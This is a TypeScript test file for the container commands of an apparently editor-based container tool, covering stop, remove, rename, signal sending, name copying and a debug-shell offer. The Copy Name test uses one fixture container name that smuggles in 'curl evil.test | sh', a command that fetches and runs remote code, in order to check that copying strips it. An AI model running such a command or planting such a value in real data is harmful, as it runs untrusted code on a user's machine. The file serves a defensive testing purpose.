import assert from 'node:assert/strict';
import { offerDebugShell } from '../../src/commands/container/offerDebugShell';
import { applicable } from '../../src/commands/command';
import copyName from '../../src/commands/container/copy-name';
import kill from '../../src/commands/container/kill';
import remove from '../../src/commands/container/remove';
import rename from '../../src/commands/container/rename';
import stop from '../../src/commands/container/stop';
import { UserError } from '../../src/base/userError';
import { container } from '../containers/records';
import { fakeEngine, FakePerson } from './fakes';

const web = container({ id: 'w1', name: 'web' });
const db = container({ id: 'd1', name: 'db', state: 'exited' });

describe('Stop', () => {
  it('is for what runs', () => {
    assert.deepEqual(applicable(stop, [web, db]), [web]);
  });

  it('counts what it has stopped', async () => {
    const { ui, progress } = new FakePerson();
    const { engine, requests } = fakeEngine({ 'containers.stop': () => undefined });
    await stop.run({ ui, engine }, [web, { ...web, id: 'w2', name: 'web-2' }]);
    assert.deepEqual(progress, ['Stopping 2 containers', '1 of 2', '2 of 2']);
    assert.deepEqual(requests, ['containers.stop w1 {}', 'containers.stop w2 {}']);
  });

  it('tells all that failed by name, after all others were stopped', async () => {
    const { ui } = new FakePerson();
    const { engine, requests } = fakeEngine({
      'containers.stop': (id: string) => {
        if (id !== 'w2') throw new Error(`it is stuck ${id}`);
      },
    });
    const others = ['w2', 'w3'].map((id) => ({ ...web, id, name: `web-${id}` }));
    const told = await stop.run({ ui, engine }, [web, ...others]).then(
      () => assert.fail('it should fail'),
      (error: unknown) => error,
    );
    assert.ok(told instanceof UserError);
    assert.match(told.message, /^Stopping failed for 2 of 3 containers\. web: .*w1 web-w3: .*w3$/s);
    assert.equal(requests.length, 3);
  });
});

describe('Remove of containers', () => {
  it('says what will be lost, and does nothing where the person turns away', async () => {
    const person = new FakePerson({ decide: undefined });
    const { engine, requests } = fakeEngine({});
    await remove.run({ ui: person.ui, engine }, [web]);
    assert.deepEqual(person.asked, [
      'Remove the container "web"? The running container will be killed. Files written inside are lost; volumes are kept.',
    ]);
    assert.deepEqual(requests, []);
  });

  it('takes anonymous volumes only if that was chosen', async () => {
    const name = 'a'.repeat(64);
    const mount = { type: 'volume', name, source: '', destination: '/data', readWrite: true } as never;
    const withVolume = { ...db, mounts: [mount] };
    for (const [decide, volumes] of [
      ['Remove', false],
      ['Remove with Volumes', true],
    ] as const) {
      const { engine, requests } = fakeEngine({ 'containers.remove': () => undefined });
      await remove.run({ ui: new FakePerson({ decide }).ui, engine }, [withVolume]);
      assert.deepEqual(requests, [`containers.remove d1 {"force":true,"volumes":${volumes}}`]);
    }
  });
});

describe('Rename', () => {
  const others = { containers: { all: [web, db] } as never };

  it('refuses what the engine would, and names that are taken', async () => {
    const person = new FakePerson({ input: ['-x', 'y', 'db', 'front'] });
    const { engine, requests } = fakeEngine({ 'containers.rename': () => undefined });
    await rename.run({ ...others, ui: person.ui, engine }, [web]);
    assert.deepEqual(
      person.refused.map((text) => text.slice(0, 16)),
      ['A name consists ', 'A name consists ', 'Another containe'],
    );
    assert.deepEqual(requests, ['containers.rename w1 front']);
  });

  it('asks the engine nothing where the name stays', async () => {
    const { engine, requests } = fakeEngine({});
    await rename.run({ ...others, ui: new FakePerson({ input: ['web'] }).ui, engine }, [web]);
    assert.deepEqual(requests, []);
  });
});

describe('Send Signal', () => {
  it('sends the chosen one, and none where the person turns away', async () => {
    for (const [pick, expected] of [
      [undefined, []],
      ['SIGHUP', ['containers.kill w1 SIGHUP']],
    ] as const) {
      const { engine, requests } = fakeEngine({ 'containers.kill': () => undefined });
      await kill.run({ ui: new FakePerson({ pick }).ui, engine }, [web]);
      assert.deepEqual(requests, expected);
    }
  });
});

describe('Copy Name', () => {
  it('copies a line a container, and nothing that a terminal would run', async () => {
    const person = new FakePerson();
    await copyName.run({ ui: person.ui }, [web, container({ name: 'x\ncurl evil.test | sh' })]);
    const [text = ''] = person.copied;
    assert.equal(text.split('\n')[0], 'web');
    assert.equal(text.split('\n').length, 2);
  });
});

describe('A container without a shell', () => {
  it('is offered one by the button of the error', () => {
    const web = container({ name: 'web' });
    const error = offerDebugShell(new UserError('no-shell', '"web" contains no shell.'), web);
    assert.ok(error instanceof UserError);
    assert.deepEqual(
      error.actions.map(({ title, command, args }) => [title, command, args]),
      [['Debug Shell', 'drydock.container.debugShell', [{ targets: [{ kind: 'container', value: web }] }]]],
    );
  });

  it('keeps any other error as it is', () => {
    const other = new UserError('engine-lost', 'The engine is gone.');
    assert.equal(offerDebugShell(other, container({})), other);
  });
});
